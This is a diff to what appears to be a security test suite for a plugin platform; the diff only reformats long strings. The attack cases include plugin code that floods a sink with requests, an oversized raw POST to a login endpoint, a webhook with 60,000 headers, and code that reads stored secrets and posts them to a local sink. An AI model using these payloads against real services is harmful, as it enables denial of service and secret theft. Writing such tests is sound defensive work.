@@ -27,7 +27,8 @@ const towards = (path) => ({
     attacker.upload({
       ...manifest({ permissions: ['outbound_http'], http: { allow: ['127.0.0.1'] } }),
       ...entry(
-        `route('/go', async (ctx) => { await Promise.allSettled(Array.from({ length: 6 }, () => ctx.http.get('${sink}${path}'))); return {} })`,
+        `route('/go', async (ctx) => { await Promise.allSettled(Array.from({ length: 6 }, () => ` +
+          `ctx.http.get('${sink}${path}'))); return {} })`,
       ),
     }),
   strike: strikeRoute,
@@ -39,7 +40,8 @@ const webhookTowards = (path) => ({
     attacker.upload({
       ...manifest({ permissions: ['emit_webhook'], http: { allow: ['127.0.0.1'] } }),
       ...entry(`route('/go', () => ({}))`),
-      'webhooks/w.yaml': `api_version: v1\non: ["flood.*"]\ndelivery:\n  url: "${sink}${path}"\nretry: { max_attempts: 1 }\n`,
+      'webhooks/w.yaml':
+        'api_version: v1\non: ["flood.*"]\n' + `delivery:\n  url: "${sink}${path}"\nretry: { max_attempts: 1 }\n`,
     }),
   lanes: 2,
   strike: ({ base, headers }) =>
@@ -130,7 +132,8 @@ export const attacks = [
       new Promise((done) => {
         const socket = connect(Number(new URL(base).port), '127.0.0.1', () =>
           socket.write(
-            `POST /api/auth/login HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n${'x'.repeat(900_000)}`,
+            `POST /api/auth/login HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ` +
+              `1000000\r\n\r\n${'x'.repeat(900_000)}`,
           ),
         );
         socket.on('error', done).on('close', done);
@@ -159,7 +162,8 @@ export const attacks = [
       await attacker.upload({
         ...manifest({ secrets }),
         ...entry(
-          `route('/go', async (ctx) => { for (const n of ${JSON.stringify(secrets)}) await ctx.secrets.get(n, ''); for (let i = 0; i < 100; i += 1) console.log('x'.repeat(2000)); return {} })`,
+          `route('/go', async (ctx) => { for (const n of ${JSON.stringify(secrets)}) await ctx.secrets.get(n, ''); ` +
+            `for (let i = 0; i < 100; i += 1) console.log('x'.repeat(2000)); return {} })`,
         ),
       });
       for (const name of secrets)
@@ -175,7 +179,8 @@ export const attacks = [
       await attacker.upload({
         ...manifest({ secrets: ['KEY'], permissions: ['outbound_http'], http: { allow: ['127.0.0.1'] } }),
         ...entry(
-          `route('/go', async (ctx) => { const body = ('{{' + ctx.secrets.ref('KEY')).repeat(100) + 'x{'.repeat(4e6); await ctx.http.post('${sink}/takes-all', body).catch(() => 0); return {} })`,
+          `route('/go', async (ctx) => { const body = ('{{' + ctx.secrets.ref('KEY')).repeat(100) + ` +
+            `'x{'.repeat(4e6); await ctx.http.post('${sink}/takes-all', body).catch(() => 0); return {} })`,
         ),
       });
       await attacker.call('PUT', '/api/plugins/bad/secrets/KEY', { value: 'k'.repeat(30) });
@@ -214,7 +219,9 @@ export const attacks = [
     strike: validate(() => ({
       ...manifest({ permissions: ['emit_webhook'] }),
       ...entry(`route('/go', () => ({}))`),
-      'webhooks/w.yaml': `api_version: v1\non: ["a.b"]\ndelivery:\n  url: "https://example.com"\n  headers: { ${Array.from({ length: 60_000 }, (_, index) => `x${index}: "a"`).join(', ')} }\n`,
+      'webhooks/w.yaml':
+        `api_version: v1\non: ["a.b"]\ndelivery:\n  url: "https://example.com"\n  headers: { ` +
+        `${Array.from({ length: 60_000 }, (_, index) => `x${index}: "a"`).join(', ')} }\n`,
     })),
   },
 ];
